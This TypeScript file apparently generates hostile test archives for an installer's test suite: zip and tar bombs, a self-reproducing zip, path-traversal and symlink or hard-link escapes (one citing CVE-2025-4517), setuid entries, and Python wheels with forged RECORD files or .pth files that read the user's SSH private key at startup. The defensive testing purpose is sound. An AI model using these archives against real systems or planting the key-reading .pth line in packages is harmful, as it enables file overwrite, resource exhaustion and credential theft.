import { crc32, deflateRawSync } from 'node:zlib';
import { quine } from './quine.ts';
import { endlessHeader, pax, type TarEntry, tarGz } from './tar.ts';
import { bzippedZeros, deflatedZeros, overlappingZip, type ZipEntry, zip } from './zip.ts';

/** An archive that would harm whoever unpacks it: made when it is asked for, so that no bomb lies in the repository. */
export interface MadeArchive {
  readonly file: string;
  readonly bytes: Uint8Array;
}

const top = 'evil-1.0';
const gibibyte = 1024 ** 3;
const setup = { name: `${top}/setup.py`, content: '# nothing\n' };

/** Every archive a case can name. */
export const archives: Readonly<Record<string, () => MadeArchive>> = {
  'zip-of-zeros': () =>
    zipped([{ name: `${top}/zeros`, deflated: deflatedZeros(3072), size: BigInt(3 * gibibyte) }]),
  'zip-that-lies-small': () => zipped([{ name: `${top}/zeros`, deflated: deflatedZeros(3072), size: 10n }]),
  'zip-in-bzip2': () => zipped([{ name: `${top}/zeros`, deflated: bzippedZeros(20), method: 12, size: 10n }]),
  'zip-of-overlaps': () => ({ file: `${top}.zip`, bytes: overlappingZip(oneContent(1000)) }),
  'zip-of-many-names': () => zipped(manyNames(250_000)),
  'zip-in-a-zip': () => zipped([setup, ...nested(3)]),
  'zip-of-itself': () => ({ file: `${top}.zip`, bytes: quine(`${top}/the-very-same-archive.zip`) }),
  'zip-of-double-names': () => zipped([setup, { ...setup, content: '# the second\n' }]),
  'zip-of-other-case': () =>
    zipped([setup, { name: `${top}/SETUP.py` }, { name: `${top}/é` }, { name: `${top}/e\u0301` }]),
  'zip64-that-lies': () => zipped([{ name: `${top}/huge`, content: 'x', size: 1n << 60n }]),
  'zip-of-two-names': () => zipped([{ name: `${top}/setup.py`, localName: `${top}/../../x` }]),
  'zip-with-a-link': () => zipped([{ name: `${top}/link`, content: '/etc/passwd', mode: 0o120777 }]),
  'zip-that-leads-out': () => zipped([setup, { name: '../../../../tmp/escaped' }]),
  'tar-of-zeros': () => tarred([{ name: `${top}/zeros`, size: 3 * gibibyte }]),
  'tar-of-holes': () => tarred([pax({ size: String(1024 * gibibyte) }), { name: `${top}/holes` }]),
  'tar-of-sparse-holes': () =>
    tarred([
      pax({
        'GNU.sparse.major': '1',
        'GNU.sparse.minor': '0',
        'GNU.sparse.realsize': String(1024 * gibibyte),
      }),
      { name: `${top}/holes`, content: '0\n'.padEnd(512, '\0') },
    ]),
  'tar-of-deep-folders': () => tarred([pax({ path: `${top}/${'d/'.repeat(3000)}x` }), { name: 'x' }]),
  'tar-with-huge-metadata': () =>
    tarred([setup, { name: `${top}/PKG-INFO`, content: `Name: evil\n${'X: y\n'.repeat(2_000_000)}` }]),
  'tar-with-endless-header': () => ({ file: `${top}.tar.gz`, bytes: endlessHeader(512) }),
  'tar-that-leads-up': () => tarred([setup, { name: '../../../../tmp/escaped', content: 'x' }]),
  'tar-that-is-absolute': () => tarred([setup, { name: '/tmp/escaped', content: 'x' }]),
  'tar-through-a-link': () =>
    tarred([
      { name: `${top}/out`, type: '2', link: '/tmp' },
      { name: `${top}/out/escaped`, content: 'x' },
    ]),
  'tar-link-over-a-link': () =>
    tarred([
      { name: `${top}/out`, type: '2', link: '.' },
      { name: `${top}/out`, type: '2', link: '/tmp/escaped' },
      { name: `${top}/out`, content: 'x' },
    ]),
  'tar-with-a-hard-link': () => tarred([setup, { name: `${top}/x`, type: '1', link: '../../../etc/passwd' }]),
  'tar-hard-link-to-a-link': () =>
    tarred([
      { name: `${top}/a`, type: '2', link: 'b' },
      { name: `${top}/c`, type: '1', link: `${top}/a` },
      { name: `${top}/c`, content: 'x' },
    ]),
  'tar-links-longer-than-a-path': () => tarred([setup, ...chainOfLinks(16)]),
  'tar-links-that-climb': () =>
    tarred([
      setup,
      { name: `${top}/a/b/up`, type: '2', link: '../..' },
      { name: `${top}/out`, type: '2', link: 'a/b/up/../..' },
      { name: `${top}/taken`, type: '1', link: `${top}/out/secret` },
      { name: `${top}/out/escaped`, content: 'x' },
    ]),
  'tar-with-a-device': () => tarred([setup, { name: `${top}/null`, type: '3' }]),
  'tar-with-setuid': () => tarred([{ ...setup, mode: 0o6755 }]),
  'wheel-that-leads-out': () => wheel([{ name: '../../../../../../tmp/escaped', content: 'x' }]),
  'wheel-of-absolute-scripts': () =>
    wheel([{ name: 'evil-1.0.data/scripts//tmp/escaped', content: '#!python\n' }]),
  'wheel-whose-record-lies': () =>
    wheel([], '../../../../../../etc/hostname,,\n../../../../../../tmp/victim,,\n'),
  'wheel-of-zeros': () => wheel([{ name: 'evil/zeros', ...zeros(64) }]),
  'wheel-with-huge-metadata': () => wheel([], '', 'X: y\n'.repeat(100_000)),
  'wheel-with-a-path-file': () => wheel([{ name: 'evil.pth', content: readsAKey }]),
  'wheel-with-another-pip': () => wheel([{ name: 'pip/__init__.py', content: '"""Another."""\n' }]),
  'wheel-with-a-borrowed-path-file': () =>
    wheel([
      { name: 'distutils-precedence.pth', content: readsAKey },
      { name: 'evil-1.0.data/purelib/setuptools-99.dist-info/RECORD', content: '' },
      { name: 'setuptools/__init__.py', content: '' },
    ]),
};

const readsAKey = "import os; open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n";

function zipped(entries: readonly ZipEntry[]): MadeArchive {
  return { file: `${top}.zip`, bytes: zip(entries) };
}

function tarred(entries: readonly TarEntry[]): MadeArchive {
  return { file: `${top}.tar.gz`, bytes: tarGz(entries) };
}

/** A wheel whose record names its files, and what else `record` says; `metadata` are further lines of its own. */
function wheel(files: readonly ZipEntry[], record = '', metadata = ''): MadeArchive {
  const info = 'evil-1.0.dist-info';
  const own: readonly ZipEntry[] = [
    { name: 'evil.py', content: '"""Nothing."""\n' },
    ...files,
    { name: `${info}/METADATA`, content: `Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n${metadata}` },
    {
      name: `${info}/WHEEL`,
      content: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    },
  ];
  const lines = [...own.map(({ name }) => `${name},,\n`), `${info}/RECORD,,\n`, record];
  return {
    file: `${top}-py3-none-any.whl`,
    bytes: zip([...own, { name: `${info}/RECORD`, content: lines.join('') }]),
  };
}

/** What an entry says of so many mebibytes of nothing. */
function zeros(mebibytes: number) {
  return {
    deflated: deflatedZeros(mebibytes),
    crc: crcOfZeros(mebibytes),
    size: BigInt(mebibytes << 20),
  };
}

/** The trick that makes petabytes of a few megabytes: all of them are the same bytes, and each by itself is in order. */
function oneContent(count: number): readonly ZipEntry[] {
  const one = zeros(64);
  return Array.from({ length: count }, (_, index) => ({ name: `${top}/${index}`, ...one }));
}

/** Archives in archives in archives, sixteen each time: 64 gigabytes to who unpacks what he finds. */
function nested(depth: number): readonly ZipEntry[] {
  if (depth === 0) return [{ name: 'zeros', ...zeros(16) }];
  const inner = zip(nested(depth - 1));
  const one = { deflated: deflateRawSync(inner), crc: crc32(inner), size: BigInt(inner.length) };
  return Array.from({ length: 16 }, (_, index) => ({
    name: `${depth === 3 ? `${top}/` : ''}${index}.zip`,
    ...one,
  }));
}

/**
 * Folders, each with a link of one letter to it, so that a short path means one that is longer than the system can say.
 * Checks by realpath gave up there and took the rest as it stood (CVE-2025-4517).
 */
function chainOfLinks(steps: number): readonly TarEntry[] {
  const long = 'd'.repeat(247);
  const letters = Array.from({ length: steps }, (_, index) => String.fromCodePoint(97 + index));
  const folders = letters.flatMap((letter, index): readonly TarEntry[] => {
    const above = `${top}/${`${long}/`.repeat(index)}`;
    const linked = { name: `${above}${letter}`, type: '2', link: long } as const;
    return [pax({ path: `${above}${long}/` }), { name: 'x', type: '5' }, pax({ path: linked.name }), linked];
  });
  const last = `${top}/${letters.join('/')}/${'l'.repeat(254)}`;
  return [
    ...folders,
    pax({ path: last, linkpath: '../'.repeat(steps) }),
    { name: 'x', type: '2', link: 'x' },
    pax({ path: `${top}/escape`, linkpath: `${last.slice(top.length + 1)}/../../../../tmp` }),
    { name: 'x', type: '2', link: 'x' },
    { name: `${top}/escape/escaped`, content: 'x' },
  ];
}

function crcOfZeros(mebibytes: number): number {
  const zeros = Buffer.alloc(1 << 20);
  let crc = 0;
  for (let done = 0; done < mebibytes; done += 1) crc = crc32(zeros, crc);
  return crc;
}

function manyNames(count: number): readonly ZipEntry[] {
  const deflated = Buffer.from([3, 0]);
  return Array.from({ length: count }, (_, index) => ({
    name: `${top}/${index}`,
    deflated,
    overlaps: index > 0,
  }));
}
